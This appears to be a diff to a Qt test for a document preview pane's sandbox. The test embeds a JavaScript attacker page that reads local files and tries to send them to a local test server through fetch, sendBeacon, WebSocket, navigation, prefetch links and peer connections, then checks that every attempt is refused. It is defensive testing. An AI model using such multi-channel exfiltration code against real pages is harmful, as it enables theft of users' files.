@@ -1,4 +1,3 @@
-#include "documentcontroller.h"
 #include "folderrequestinterceptor.h"
 #include "previewcontroller.h"
 #include "previewpane.h"
@@ -75,10 +74,9 @@ private slots:
             QTRY_COMPARE(f.browser()->url(), QUrl(QStringLiteral("about:blank")));
     }
 
-    // An attacker's page reads what it can, in its folder and out of it, and tries every way
-    // out to servers on this machine; the servers must see no connection at all. The browser's own
-    // guard on remote addresses is turned off: it let WebSocket through, and the seal must not
-    // depend on it.
+    // An attacker's page reads what it can, in its folder and out of it, and tries every way out
+    // to servers on this machine, which must see no connection at all. The browser's own guard
+    // on remote addresses is off: it let WebSocket through, and the seal must not depend on it.
     void nothingLeavesTheMachine()
     {
         QTcpServer web;
@@ -92,9 +90,7 @@ private slots:
         const QString attack = QStringLiteral(R"(
 var H = 'http://127.0.0.1:%1/', s = '', left = 10, results = [];
 function settled() {
-  if (--left > 0) return;
-  document.title = results.sort().join(); location.href = H + 'location?d=' + s;
-}
+  if (--left == 0) document.title = results.sort().join(), location.href = H + 'location?d=' + s; }
 function tell(way, what) { results.push(way + ':' + what); settled(); }
 function read(way, address) {
   var x = new XMLHttpRequest();
@@ -113,8 +109,7 @@ fetch('dentro.txt').then(r => r.text()).then(t => {
   navigator.sendBeacon(H + 'beacon', t);
   var w = new WebSocket(H.replace('http', 'ws') + 'websocket?d=' + s);
   w.onopen = w.onerror = settled;
-  add(document.head, 'link', {rel: 'prefetch', href: H + 'prefetch?d=' + s, onload: settled,
-                              onerror: settled});
+  add(document.head, 'link', {rel: 'prefetch', href: H + 'prefetch', onload: settled, onerror: settled});
   for (var rel of ['preconnect', 'dns-prefetch', 'icon'])
     add(document.head, 'link', {rel: rel, href: H + rel});
   // Peer connections reach their servers without any request the browser could refuse.
@@ -149,13 +144,10 @@ fetch('dentro.txt').then(r => r.text()).then(t => {
         f.clickTab(0);
         f.clickTab(1);
         // Once the page has gone, every request it made has been answered or dropped.
-        const auto reached = [&] {
-            QCoreApplication::processEvents();
-            return webCalls.size() + web.hasPendingConnections() + datagrams.hasPendingDatagrams();
-        };
-        QTRY_VERIFY_WITH_TIMEOUT((!loads.isEmpty() && !loads.last().first().toBool()) || reached(),
-                                 60000);
-        QCOMPARE(reached(), 0);
+        QTRY_VERIFY_WITH_TIMEOUT(!loads.isEmpty() && !loads.last().first().toBool(), 60000);
+        QCoreApplication::processEvents();
+        QCOMPARE(webCalls.size() + web.hasPendingConnections() + datagrams.hasPendingDatagrams(),
+                 0);
         QStringList seen;
         for (const QList<QVariant> &title : titles)
             seen.append(title.first().toString());
@@ -163,11 +155,10 @@ fetch('dentro.txt').then(r => r.text()).then(t => {
                                               "link:rechazado,window:rechazado")),
                  qPrintable(seen.join(u'|')));
         // Every way out was tried, and the seal refused each one itself.
-        QStringList tried;
+        QSet<QString> tried;
         for (const QList<QVariant> &address : refused)
-            tried.append(address.first().toUrl().path().mid(1));
-        for (const char *way : {"fetch", "iframe", "location", "beacon", "websocket", "prefetch"})
-            QVERIFY2(tried.contains(QLatin1String(way)), qPrintable(tried.join(u' ')));
+            tried.insert(address.first().toUrl().path().mid(1));
+        QVERIFY(tried.contains({"fetch", "iframe", "location", "beacon", "websocket", "prefetch"}));
     }
 
     void wideFolderRunsNoScript_data()
